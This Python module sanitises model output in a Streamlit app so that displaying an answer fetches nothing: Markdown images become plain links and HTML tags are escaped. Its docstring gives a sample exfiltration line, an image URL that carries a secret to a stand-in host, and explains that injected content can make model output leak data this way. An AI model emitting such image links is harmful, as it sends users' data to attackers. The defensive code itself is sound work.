"""Model output rendered so that showing it makes the viewer's browser fetch nothing.

An answer is text someone else controls (a model, and whoever wrote what it read), so Markdown
that would load a resource when displayed is turned into a link the user may click instead:
``![alt](https://host/pixel?q=secret)`` becomes ``🖼 [alt](https://host/pixel?q=secret)``, and
so do reference-style images. Raw HTML (``<img>``, ``<iframe>``...) is shown as text, never
rendered, because Streamlit escapes it unless told otherwise. Code spans and fenced code blocks
are left exactly as written.
"""
from __future__ import annotations

import re

import streamlit as st

__all__ = ["defuse", "show", "BLIND_CAPTION"]

BLIND_CAPTION = "Details appear after your vote."

# fenced blocks (``` or ~~~, to their closing fence or the end) and inline code spans
_CODE = re.compile(r"(^[ \t]*(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]*\2[ \t]*$|\Z)|(`+)[^`\n]*?\3)",
                   re.MULTILINE | re.DOTALL)
_IMAGE = re.compile(r"(?<!\\)!\[([^\]\n]*)\]")
_HTML_TAG = re.compile(r"<(?=[A-Za-z!/?])")


def defuse(text: str) -> str:
    """``text`` with every Markdown image made a plain link and every HTML tag escaped, outside
    code; what it says is unchanged, only that nothing loads by itself."""
    out, last = [], 0
    for match in _CODE.finditer(text):
        out.append(_defuse_prose(text[last:match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(_defuse_prose(text[last:]))
    return "".join(out)


def _defuse_prose(text: str) -> str:
    text = _IMAGE.sub(lambda m: f"🖼 [{m.group(1).strip() or 'image'}]", text)
    return _HTML_TAG.sub("&lt;", text)


def show(text: str, *, container=None, cursor: bool = False) -> None:
    """Render an answer (or a prompt) as Markdown that fetches nothing; ``cursor`` adds the
    streaming cursor. ``container`` is where (an ``st.empty()``, a column), else the page."""
    (container or st).markdown(defuse(text) + ("▌" if cursor else ""))
